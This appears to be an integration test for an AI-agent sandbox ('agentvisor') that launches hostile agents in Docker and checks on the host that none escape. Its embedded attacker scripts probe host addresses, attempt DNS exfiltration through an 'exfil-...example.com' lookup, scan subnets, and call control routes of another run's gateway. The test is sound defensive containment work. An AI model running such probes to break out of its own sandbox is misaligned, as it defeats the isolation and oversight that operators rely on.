// A hostile agent stays in its box: one hostile `command` agent per attack, in a real run (real
// Temporal server, real worker, real Docker engine), and each attack judged by evidence on the host,
// never by what the attacker prints:
//   - the host: listeners on all the host's addresses (TCP and UDP) record every packet that arrives;
//   - DNS: a UDP listener on port 53 of all the host's addresses records every query;
//   - gateways: the run's own gateway and a second run's (a real one, started by the same code),
//     whose logs name every control call refused and every control route asked on the agents' port;
//   - a peer agent of the same run: a listener in that agent records every connection.
// The README ("Isolation", "Network") says what is enforced and by what.
import * as dgram from 'node:dgram';
import { mkdtempSync, readFileSync } from 'node:fs';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import Docker from 'dockerode';
import { gatewayTokens, openTaskNetwork, startGateway, stopGateway } from '../../activities/gateway';
import { defaultDataDir } from '../../paths/data-folder';
import { BASE_IMAGE } from '../../images/constants';
import { follow } from '../support/follow';
import { DockerRuntime } from '../../runtimes/docker';
import { containerName } from '../../runtimes/runtime';
import type { GraphSpec } from '../../graph/types';
import { containersOfRun, makeRepo, writeGraph } from '../support/repo';
import { runToEnd, withRealWorker } from '../support/temporal';

const runtime = new DockerRuntime();
const docker = new Docker();
const egress = `agentvisor-test-attacks-egress-${process.pid}`;
const victimRun = `victim-${process.pid}`;
const scope = 'attacks-test';
const runId = `attacks-${process.pid}`;
const MARKER = `m${process.pid}x${Date.now().toString(36)}`;

/** Everything that reached the host's listeners. */
const arrived: string[] = [];
const servers: { close: () => void }[] = [];
let tcpPort = 0;
let udpPort = 0;
let egressPrefix = '';
let victim: { egressIp: string; netIp: string; logs: () => string };

/** The host's addresses (every interface, IPv4 and IPv6), as an attacker could guess them. */
const hostAddresses = () =>
  Object.values(os.networkInterfaces())
    .flat()
    .filter((a) => a && !a.internal && !a.address.startsWith('fe80'))
    .map((a) => a!.address);

async function listenTcp(port: number): Promise<net.Server> {
  const server = net.createServer((s) => {
    arrived.push(`tcp ${s.localPort} from ${s.remoteAddress}`);
    s.on('data', (d) => arrived.push(`tcp ${s.localPort} from ${s.remoteAddress}: ${d.toString('latin1').replace(/[^\x20-\x7e]/g, '.')}`));
    s.on('error', () => undefined);
    setTimeout(() => s.destroy(), 1000);
  });
  // '::' with ipv6Only false: every IPv4 and IPv6 address of the host
  await new Promise<void>((resolve, reject) => server.once('error', reject).listen({ port, host: '::', ipv6Only: false }, resolve));
  return server;
}

async function listenUdp(port: number): Promise<dgram.Socket> {
  const socket = dgram.createSocket({ type: 'udp6', ipv6Only: false, reuseAddr: true });
  socket.on('message', (m, from) =>
    arrived.push(`udp ${socket.address().port} from ${from.address}: ${m.toString('latin1').replace(/[^\x20-\x7e]/g, '.')}`),
  );
  await new Promise<void>((resolve, reject) => {
    socket.once('error', reject);
    socket.bind(port, '::', () => resolve());
  });
  return socket;
}

beforeAll(async () => {
  const tcp = await listenTcp(0);
  tcpPort = (tcp.address() as net.AddressInfo).port;
  const udp = await listenUdp(0);
  udpPort = (udp.address() as net.AddressInfo).port;
  // port 53 on every address: where a name lookup that leaves its box would arrive first
  const dns = await listenUdp(53);
  const dnsTcp = await listenTcp(53);
  servers.push({ close: () => tcp.close() }, { close: () => udp.close() }, { close: () => dns.close() }, { close: () => dnsTcp.close() });

  // the gateways' network with a route out, ours alone (other work on this engine uses 'bridge')
  await runtime.createNetwork(egress, { internal: false, labels: {} });
  const subnet = ((await docker.getNetwork(egress).inspect()) as { IPAM: { Config: { Subnet: string }[] } }).IPAM.Config[0].Subnet;
  egressPrefix = subnet.split('/')[0].split('.').slice(0, 3).join('.');
  process.env.AGENTVISOR_GATEWAY_EGRESS_NETWORK = egress;

  // a second run's gateway, made by the same code as any run's, with an agent's network of its own
  const artifactsDir = mkdtempSync(path.join(os.tmpdir(), 'agentvisor-victim-'));
  const graph = { name: 'victim', agents: {}, tasks: [] } as unknown as GraphSpec;
  await startGateway({
    runtime,
    runId: victimRun,
    graph,
    artifactsDir,
    scope,
    user: '1000:1000',
    bundle: path.join(__dirname, '..', '..', 'dist', 'gateway', 'gateway.bundle.js'),
    tokens: gatewayTokens(defaultDataDir()),
  });
  const { gatewayIp: netIp } = await openTaskNetwork(runtime, victimRun, 'v', scope);
  const logs = follow(containerName(victimRun, '_gateway'));
  victim = { egressIp: await runtime.addressOf(containerName(victimRun, '_gateway'), egress), netIp, logs: logs.text };
}, 60_000);

afterAll(async () => {
  servers.forEach((s) => s.close());
  delete process.env.AGENTVISOR_GATEWAY_EGRESS_NETWORK;
  await stopGateway(runtime, victimRun, scope);
  await runtime.removeNetwork(egress);
});

// Shared by the attackers: connect (TCP, with an HTTP request) and send (UDP), everything at once.
const LIB = String.raw`
const net = require('net'), dgram = require('dgram'), fs = require('fs'), dns = require('dns');
const tcp = (host, port, payload) => new Promise((resolve) => {
  const s = net.connect({ host, port, timeout: 2500 });
  s.on('connect', () => { if (payload) s.write(payload); setTimeout(() => { s.destroy(); resolve('open'); }, 500); });
  s.on('timeout', () => { s.destroy(); resolve('timeout'); });
  s.on('error', (e) => resolve(e.code));
});
const udp = (host, port, payload) => new Promise((resolve) => {
  try {
    const s = dgram.createSocket(host.includes(':') ? 'udp6' : 'udp4');
    s.on('error', (e) => { try { s.close(); } catch {} resolve(e.code); });
    s.bind(() => {
      s.setBroadcast(true); // 255.255.255.255 too
      s.send(Buffer.from(payload), port, host, (e) => { try { s.close(); } catch {} resolve(e ? e.code : 'sent'); });
    });
  } catch (e) { resolve(e.code || e.message); }
});
const defaultGateway = () => {
  const row = fs.readFileSync('/proc/net/route', 'utf8').split('\n').slice(1).map((l) => l.trim().split(/\s+/)).find((f) => f[1] === '00000000');
  return row ? [6, 4, 2, 0].map((i) => parseInt(row[2].substr(i, 2), 16)).join('.') : undefined;
};
const ownPrefix = () => {
  const a = require('os').networkInterfaces().eth0?.find((x) => x.family === 'IPv4');
  return a ? a.address.split('.').slice(0, 3).join('.') : undefined;
};
const range = (prefix, from, to) => prefix ? Array.from({ length: to - from + 1 }, (_, i) => prefix + '.' + (from + i)) : [];
const http = (path) => 'GET ' + path + ' HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n';
const report = async (what, list) => console.log(what, JSON.stringify(await Promise.all(list)));
`;

// every address of the host it can think of: its default route, docker0's usual address, the host's
// own; and the limited broadcast (UDP), which a bridge with no address still takes in
const HOST = String.raw`
(async () => {
  const targets = [...new Set([defaultGateway(), '172.17.0.1', ...process.env.HOST_ADDRS.split(','), ...range(ownPrefix(), 1, 1), '255.255.255.255'].filter(Boolean))];
  for (let round = 0; round < 2; round++) {
    await report('tcp', targets.map((h) => tcp(h, +process.env.HOST_TCP, 'knock ' + process.env.MARKER + '\n')));
    await report('udp', targets.map((h) => udp(h, +process.env.HOST_UDP, 'knock ' + process.env.MARKER)));
  }
})();
`;

// a name whose lookup would carry data out, asked every way: the system resolver, c-ares, and a raw
// query to port 53 of each host address and to the limited broadcast (a host resolver on all
// addresses would forward it out)
const DNS = String.raw`
const query = (name) => {
  const labels = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
  return Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 1, 0, 1])]);
};
(async () => {
  const name = 'exfil-' + process.env.MARKER + '.example.com';
  console.log('lookup', await new Promise((r) => dns.lookup(name, (e, a) => r(e ? e.code : a))));
  console.log('resolve4', await new Promise((r) => dns.resolve4(name, (e, a) => r(e ? e.code : a))));
  const targets = [...new Set([defaultGateway(), '172.17.0.1', ...process.env.HOST_ADDRS.split(',')].filter(Boolean))];
  await report('raw udp 53', [...targets, '255.255.255.255'].map((h) => udp(h, 53, query(name))));
  await report('raw tcp 53', targets.map((h) => tcp(h, 53, query(name))));
})();
`;

// the control side of its own gateway (by name, on its network, on the egress network), and both
// ports of another run's gateway; and, to show it got as far as its gateway, one model-route call
const GATEWAYS = String.raw`
(async () => {
  const M = process.env.MARKER;
  await report('own model port', [tcp('agentvisor-gateway', 8080, http('/anthropic/attack-ok-' + M))]);
  await report('own control port', [8081, 8080].map((p) => tcp('agentvisor-gateway', p, http('/_agentvisor/attack-' + M))));
  const others = [...range(process.env.EGRESS_PREFIX, 1, 20), process.env.VICTIM_EGRESS, process.env.VICTIM_NET, ...range(ownPrefix(), 1, 12)];
  await report('scan', others.flatMap((h) => [8080, 8081].map((p) => tcp(h, p, http('/_agentvisor/attack-' + M)))));
  await report('victim model', [process.env.VICTIM_EGRESS, process.env.VICTIM_NET].map((h) => tcp(h, 8080, http('/anthropic/attack-victim-' + M))));
})();
`;

// another agent of the same run: by its container's name (Docker's DNS knows names on a shared
// network), and every address near its own
const PEER = String.raw`
(async () => {
  for (let round = 0; round < 6; round++) {
    await report('by name', [tcp(process.env.PEER_NAME, 7777, 'knock ' + process.env.MARKER + '\n')]);
    await report('scan', range(ownPrefix(), 1, 16).map((h) => tcp(h, 7777, 'knock ' + process.env.MARKER + '\n')));
    await new Promise((r) => setTimeout(r, 1500));
  }
})();
`;

// the peer: records every connection it gets (its own log is the evidence, written by the victim, not the attacker)
const VICTIM = String.raw`
const server = require('net').createServer((s) => { console.log('CONNECTION from ' + s.remoteAddress); s.on('error', () => {}); s.end(); });
server.listen(7777, '0.0.0.0', () => console.log('listening'));
setTimeout(() => { console.log('done'); process.exit(0); }, 25000);
`;

describe('hostile agents of one run, one attack each', () => {
  let byId: Record<string, { status: string; logPath?: string }>;
  let ownGatewayLog = '';
  /** what reached the host's listeners while the run ran */
  let duringRun: string[] = [];
  const log = (id: string) => readFileSync(byId[id].logPath!, 'utf8');
  /** what the agents printed: shown when a check fails, never the evidence itself */
  const context = () =>
    Object.keys(byId)
      .map((id) => `--- ${id}\n${log(id)}`)
      .join('\n');
  /** what reached the host's listeners from one attacker (each knocks with its own marker) */
  const from = (who: string) => duringRun.filter((a) => a.includes(`${MARKER}-${who}`));

  beforeAll(async () => {
    const repo = makeRepo();
    const env = (who: string, js: string) =>
      JSON.stringify({
        JS: LIB + js,
        MARKER: `${MARKER}-${who}`,
        HOST_ADDRS: hostAddresses().join(','),
        HOST_TCP: String(tcpPort),
        HOST_UDP: String(udpPort),
        EGRESS_PREFIX: egressPrefix,
        VICTIM_EGRESS: victim.egressIp,
        VICTIM_NET: victim.netIp,
        PEER_NAME: containerName(runId, 'peer'),
      });
    // allowHosts: the agent gets the gateway (and so a network); without, it has none
    const agent = (who: string, js: string, extra = 'allowHosts: [nothing.invalid]') => `
    harness: command
    command: node -e "$JS"
    env: ${env(who, js)}
    ${extra}`;
    const file = writeGraph(`
name: attacks
repo: ${repo}
agents:
  host: ${agent('host', HOST)}
  dns: ${agent('dns', DNS)}
  gateways: ${agent('gateways', GATEWAYS)}
  peers: ${agent('peers', PEER)}
  victim: ${agent('victim', VICTIM)}
  boxed: ${agent('boxed', HOST, '')}
tasks:
  - { id: host, agent: host, timeout: 2m }
  - { id: dns, agent: dns, timeout: 2m }
  - { id: gateways, agent: gateways, timeout: 2m }
  - { id: peer, agent: victim, timeout: 2m }
  - { id: attacker, agent: peers, timeout: 2m }
  - { id: no-gateway, agent: boxed, timeout: 2m }
failFast: false
`);
    const ownGateway = follow(containerName(runId, '_gateway'));
    const mark = arrived.length;
    const report = await withRealWorker(() => runToEnd(file, { runId }));
    duringRun = arrived.slice(mark);
    ownGateway.stop();
    ownGatewayLog = ownGateway.text();
    byId = Object.fromEntries(report.tasks.map((t) => [t.id, t]));
  }, 240_000);

  test('every attacker ran to its end, and nothing of the run is left', async () => {
    for (const id of Object.keys(byId))
      expect({ id, status: byId[id].status, context: context() }).toMatchObject({ id, status: 'succeeded' });
    expect(Object.keys(byId).sort()).toEqual(['attacker', 'dns', 'gateways', 'host', 'no-gateway', 'peer']);
    expect(await containersOfRun(runId)).toEqual([]);
    expect(((await docker.listNetworks()) as { Name: string }[]).map((n) => n.Name).filter((n) => n.includes(runId))).toEqual([]);
  });

  test('the host: not one packet arrives on any of its addresses, TCP or UDP', () => {
    expect({ arrived: from('host'), all: duringRun, context: context() }).toEqual({ arrived: [], all: [], context: context() });
  });

  test('a name lookup does not leave the machine (no query reaches port 53 of the host)', () => {
    expect({ arrived: from('dns'), port53: duringRun.filter((a) => / 53 from /.test(a)), context: context() }).toEqual({
      arrived: [],
      port53: [],
      context: context(),
    });
  });

  test('the gateway: its agents’ port answers, its control side does not; another run’s gateway sees nothing', () => {
    // it got as far as its own gateway's model route (refused there: no token)
    expect(ownGatewayLog).toContain(`/attack-ok-${MARKER}-gateways status=401`);
    const controlCalls = ownGatewayLog.split('\n').filter((l) => /agentvisor gateway: control /.test(l));
    expect({ controlCalls, context: context() }).toEqual({ controlCalls: [], context: context() });
    const victimSaw = victim
      .logs()
      .split('\n')
      .filter((l) => l.includes(MARKER) || / from=/.test(l));
    expect({ victimSaw, context: context() }).toEqual({ victimSaw: [], context: context() });
  });

  test('another agent of the same run: listening all along, and nobody connected', () => {
    const peer = log('peer');
    expect(peer).toContain('listening');
    expect(peer).toContain('done');
    expect({ connections: peer.split('\n').filter((l) => l.startsWith('CONNECTION')), context: context() }).toEqual({
      connections: [],
      context: context(),
    });
  });

  test('an agent with no gateway has no network at all', () => {
    expect({ arrived: from('boxed'), context: context() }).toEqual({ arrived: [], context: context() });
  });
});

// The control experiment: the same host probe, from a container on a plain --internal network (what
// agents had before), does reach the host's listeners. So the listeners and the probe work, and the
// empty record above is the network's doing.
test('the same probe on a plain internal network reaches the host (the listeners work)', async () => {
  const plain = `agentvisor-test-plain-${process.pid}`;
  const name = `agentvisor-test-plain-probe-${process.pid}`;
  await docker.createNetwork({ Name: plain, Internal: true });
  try {
    const before = arrived.length;
    const c = await docker.createContainer({
      name,
      Image: BASE_IMAGE,
      Cmd: ['node', '-e', LIB + HOST],
      User: '1000:1000',
      Env: [`MARKER=${MARKER}`, `HOST_ADDRS=${hostAddresses().join(',')}`, `HOST_TCP=${tcpPort}`, `HOST_UDP=${udpPort}`],
      HostConfig: { NetworkMode: plain, CapDrop: ['ALL'], ReadonlyRootfs: true },
    });
    await c.start();
    const exit = (await c.wait()) as { StatusCode: number };
    const out = String(await c.logs({ stdout: true, stderr: true }));
    const seen = arrived.slice(before);
    expect({
      exit: exit.StatusCode,
      tcp: seen.some((a) => a.startsWith(`tcp ${tcpPort}`)),
      udp: seen.some((a) => a.startsWith(`udp ${udpPort}`)),
      out,
    }).toEqual({ exit: 0, tcp: true, udp: true, out });
  } finally {
    await docker
      .getContainer(name)
      .remove({ force: true })
      .catch(() => undefined);
    await docker
      .getNetwork(plain)
      .remove()
      .catch(() => undefined);
  }
}, 60_000);
